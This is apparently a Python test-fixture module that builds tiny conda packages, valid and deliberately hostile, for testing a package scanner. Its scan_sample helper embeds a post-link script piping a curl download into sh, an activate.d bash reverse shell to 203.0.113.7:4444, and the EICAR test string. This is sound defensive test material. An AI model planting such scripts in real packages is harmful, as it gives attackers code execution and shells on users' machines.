"""Tiny real conda packages built by the tests (valid ones and hostile ones)."""

from __future__ import annotations

import bz2
import io
import json
import tarfile
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import zstandard


def _tar(members: Iterable[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def file_member(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info, data


def link_member(name: str, target: str, *, hard: bool = False) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
    info.linkname = target
    return info, None


def index_json(name: str, version: str, build: str, subdir: str, **extra: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "name": name,
        "version": version,
        "build": build,
        "build_number": 0,
        "depends": [],
        "subdir": subdir,
        "license": "MIT",
        "timestamp": 1700000000000,
    }
    if subdir == "noarch":
        data["noarch"] = "generic"
    data.update(extra)
    return data


def info_members(
    index: dict[str, Any],
    extra: Iterable[tuple[tarfile.TarInfo, bytes | None]] = (),
    paths: dict[str, Any] | None = None,
) -> list:
    paths = paths or {
        "paths_version": 1,
        "paths": [{"_path": "share/x.txt", "path_type": "hardlink", "size_in_bytes": 5}],
    }
    return [
        file_member("info/index.json", json.dumps(index).encode()),
        file_member("info/paths.json", json.dumps(paths).encode()),
        file_member("info/about.json", json.dumps({"summary": f"{index['name']} test package"}).encode()),
        *extra,
    ]


def make_conda(
    dest_dir: Path,
    name: str = "pkg",
    version: str = "1.0",
    build: str = "0",
    subdir: str = "noarch",
    *,
    filename: str | None = None,
    index_extra: dict[str, Any] | None = None,
    pkg_members: list | None = None,
    info_extra: list | None = None,
    level: int = 3,
    paths_json: dict[str, Any] | None = None,
) -> Path:
    idx = index_json(name, version, build, subdir, **(index_extra or {}))
    stem = f"{name}-{version}-{build}"
    fn = filename or f"{stem}.conda"
    real_stem = fn[: -len(".conda")] if fn.endswith(".conda") else stem
    cctx = zstandard.ZstdCompressor(level=level)
    info = cctx.compress(_tar(info_members(idx, info_extra or [], paths_json)))
    pkg = cctx.compress(_tar(pkg_members if pkg_members is not None else [file_member("share/x.txt", b"hello")]))
    path = dest_dir / fn
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("metadata.json", json.dumps({"conda_pkg_format_version": 2}))
        zf.writestr(f"info-{real_stem}.tar.zst", info)
        zf.writestr(f"pkg-{real_stem}.tar.zst", pkg)
    return path


def make_tar_bz2(
    dest_dir: Path,
    name: str = "pkg",
    version: str = "1.0",
    build: str = "0",
    subdir: str = "noarch",
    *,
    filename: str | None = None,
    extra_members: list | None = None,
    index_extra: dict[str, Any] | None = None,
) -> Path:
    idx = index_json(name, version, build, subdir, **(index_extra or {}))
    members = [*info_members(idx), file_member("share/x.txt", b"hello"), *(extra_members or [])]
    path = dest_dir / (filename or f"{name}-{version}-{build}.tar.bz2")
    path.write_bytes(bz2.compress(_tar(members)))
    return path


# -- packages for the scanning stage (tests/functional/test_scanning*.py) -----------------------------------
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HOSTILE_KINDS = ("post-link", "eicar", "reverse-shell", "blocked")


def scan_sample(
    dest_dir: Path, name: str, version: str = "1.0", kind: str = "clean", *, build: str = "0", blob: bytes | None = None
) -> Path:
    """A noarch package whose paths.json lists every payload file with its sha256 and size (a well-formed
    build), carrying what ``kind`` names: ``clean``; ``post-link`` (a post-link script piping a download
    into a shell); ``eicar`` (the EICAR test string in a payload file); ``reverse-shell`` (an activate.d
    script wiring bash to a TCP socket); ``blocked`` (a payload file of bytes ``blob``, whose sha256 a test
    blocks); ``benign-post-link`` (a post-link script that downloads nothing... but reaches the network)."""
    import hashlib

    files: dict[str, bytes] = {"share/x.txt": b"hello"}
    if kind == "post-link":
        files[f"bin/.{name}-post-link.sh"] = b"#!/bin/sh\ncurl -fsSL http://203.0.113.7/setup.sh | sh\n"
    elif kind == "eicar":
        files["share/doc/readme.txt"] = b"test file follows\n" + EICAR + b"\n"
    elif kind == "reverse-shell":
        files[f"etc/conda/activate.d/{name}.sh"] = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n"
    elif kind == "blocked":
        files["lib/payload.bin"] = blob or b"known bad bytes"
    elif kind == "benign-post-link":
        files[f"bin/.{name}-post-link.sh"] = b"#!/bin/sh\necho installed; curl -s https://example.invalid/ping\n"
    elif kind != "clean":
        raise ValueError(kind)
    paths = {
        "paths_version": 1,
        "paths": [
            {"_path": p, "path_type": "hardlink", "sha256": hashlib.sha256(d).hexdigest(), "size_in_bytes": len(d)}
            for p, d in sorted(files.items())
        ],
    }
    return make_conda(
        dest_dir, name, version, build, pkg_members=[file_member(p, d) for p, d in files.items()], paths_json=paths
    )
